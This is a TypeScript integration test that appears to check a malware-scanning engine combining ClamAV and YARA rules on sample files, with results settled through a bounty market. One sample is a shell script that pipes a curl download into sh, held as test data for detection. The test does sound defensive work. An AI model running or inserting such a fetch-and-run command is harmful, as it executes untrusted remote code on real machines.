import { readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { nct, ONE_NCT } from "../../src/domain/nct.ts";
import type { Sandbox } from "../../src/sandbox/sandbox.ts";
import { type ClamdServer, startClamd } from "../fixtures/clamd-server.ts";
import { makeZip } from "../fixtures/hostile/make-zip.ts";
import { EngineProcess, producerFlags, temporaryFolder } from "./engine.ts";
import { deedsOnChain, EICAR, openMarket, readLedger } from "./market.ts";

const RULES = fileURLToPath(new URL("../fixtures/yara", import.meta.url));
/** What the clamd of the tests has a signature for. */
const PLANTED = Buffer.from("PLANTED-BY-THE-TESTS");

/** Files of this machine, and others with something in them that only one of the two scanners knows. */
const SAMPLES: readonly { readonly bytes: Uint8Array; readonly malicious: boolean }[] = [
  { bytes: readFileSync("/bin/ls"), malicious: false },
  { bytes: readFileSync("/bin/cat"), malicious: false },
  { bytes: readFileSync("/etc/os-release"), malicious: false },
  { bytes: readFileSync(new URL("../../package.json", import.meta.url)), malicious: false },
  { bytes: EICAR, malicious: true },
  { bytes: Buffer.from("#!/bin/sh\ncurl https://example.com/x | sh\n"), malicious: true },
  { bytes: Buffer.concat([readFileSync("/bin/false"), PLANTED]), malicious: true },
  { bytes: makeZip([{ name: "inside.txt", content: PLANTED }]), malicious: true },
];

describe("a clamd and YARA rules over files of this machine", () => {
  const folder = temporaryFolder();
  let clamd: ClamdServer;
  let sandbox: Sandbox;
  let producer: EngineProcess;

  beforeAll(async () => {
    [clamd, sandbox] = await Promise.all([startClamd(), openMarket(folder.path, { rivals: 0 })]);
    producer = new EngineProcess([
      ...producerFlags(sandbox.url, folder.path),
      ...["--backend", "yara", "--yara-rules", RULES],
      ...["--backend", "clamav", "--clamd", clamd.socket],
      // Little: what one of them says outweighs the silence of the other.
      ...["--benign", "clamav=0.65", "--benign", "yara=0.65", "--embedded", "1"],
    ]);
    await Promise.all([producer.told("producer.ready"), producer.told("consumer.serving")]);
  });
  afterAll(async () => {
    await producer[Symbol.asyncDispose]();
    await sandbox[Symbol.asyncDispose]();
    await clamd[Symbol.asyncDispose]();
    folder[Symbol.dispose]();
  });

  it("come to the right verdict on every file, through to settlement", async () => {
    const guid = await sandbox.postBounty({
      contents: SAMPLES.map(({ bytes }) => bytes),
      truth: SAMPLES.map(({ malicious }) => malicious),
      duration: 24,
      reward: nct(20n * ONE_NCT),
    });
    const [planned] = await producer.told("assertion.planned");
    expect(planned).toMatchObject({ guid, artifacts: SAMPLES.length });
    await producer.told("assertion.settled");

    const found = producer.entries
      .filter(({ msg, verdict }) => msg === "artifact.answered" && verdict === "malicious")
      .map(({ backend, artifact }) => `${backend} ${artifact}`);
    // None of the two would have been right alone.
    expect(found.toSorted()).toEqual(["clamav 6", "clamav 7", "yara 4", "yara 5"]);
    expect(await deedsOnChain(sandbox)).toEqual({ asserted: 1, revealed: 1, settled: 1 });
    expect(readLedger(folder.path)).toMatchObject({
      asserted: 1,
      settled: 1,
      right: SAMPLES.length,
      wrong: 0,
    });
  });
});
